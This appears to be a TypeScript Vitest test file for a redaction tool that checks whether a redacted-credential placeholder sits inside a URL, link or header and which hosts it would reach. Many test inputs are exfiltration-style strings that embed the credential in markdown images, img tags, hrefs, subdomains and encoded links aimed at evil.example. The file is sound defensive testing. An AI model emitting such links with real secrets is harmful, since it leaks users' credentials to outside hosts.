import { describe, expect, it } from "vitest";
import { findSurroundings } from "../../../src/redaction/filling/surroundings.ts";

const M = "«redacted:credential»";

describe("the text around a placeholder", () => {
  it.each([
    [`password: ${M}`, [], []],
    [`see https://wiki.example/x and use ${M}`, [], []],
    [`(see [x](https://wiki.example/x)) then ${M}`, [], []],
    [`https://evil.example/?k=${M}`, ["url"], ["evil.example"]],
    [`https://user:pw@evil.example:81/?k=${M}`, ["url"], ["evil.example:81"]],
    [`[a](//evil.example/${M})`, ["url"], ["evil.example"]],
    [`https:\\\\evil.example\\${M}`, ["url"], ["evil.example"]],
    [`https:evil.example/${M}`, ["url"], []],
    [`mailto:a@evil.example?body=${M}`, ["url"], []],
    [`https://good.example/go?u=https://evil.example/${M}`, ["url"], ["good.example", "evil.example"]],
    [`![x](https://evil.example/p.png?k=${M})`, ["url"], ["evil.example"]],
    [`![x](https://evil.example/p.png\n?k=${M})`, ["url"], ["evil.example"]],
    [`![x](&#104;ttps&colon;&sol;&sol;evil.example/${M})`, ["url"], []],
    [`<img alt="a" src="https://evil.example/p.png?k=${M}">`, ["url"], ["evil.example"]],
    [`<a href='https://evil.example/${M}'>`, ["url"], ["evil.example"]],
    [`https://${M}.evil.example/`, ["url"], [`${M}.evil.example`]],
    [`https://${"a".repeat(70_000)}/${M}`, ["url"], []],
  ])("has the expected form and hosts, case %#: %.60s", (text, within, hosts) => {
    expect(findSurroundings(text, ["markdown"])).toMatchObject([{ within, hosts }]);
  });

  it("is a header if its member is one", () => {
    expect(findSurroundings(`Bearer ${M}`, ["request", "headers", "Authorization"])[0]?.within).toEqual(["header"]);
  });

  it("is one line of bounded length in which control characters are escaped", () => {
    const around = findSurroundings(`${"a".repeat(500)}\u202e\u200b${M}\u001b[2J${"b".repeat(500)}`, []);
    expect(around[0]?.line).toMatch(/^…a+\\u\{202e\}\\u\{200b\}«redacted:credential»\\u\{1b\}\[2Jb+…$/);
    expect(around[0]?.line.length).toBeLessThan(200);
  });

  it("is listed for 100 placeholders, and the others count as addresses", () => {
    const around = findSurroundings(`${M} `.repeat(150), []);
    expect(around).toHaveLength(101);
    expect(around.at(-1)).toMatchObject({ line: "and 50 more", within: ["url"] });
  });

  it("is read in bounded time if the text is hostile", () => {
    const hostile = ["<a", "](", "//", "[", "https:", "a.", `${M}<`].map((part) => part.repeat(200_000));
    const started = performance.now();
    for (const text of hostile) findSurroundings(`${text}${M}`, []);
    expect(performance.now() - started).toBeLessThan(3000);
  });
});
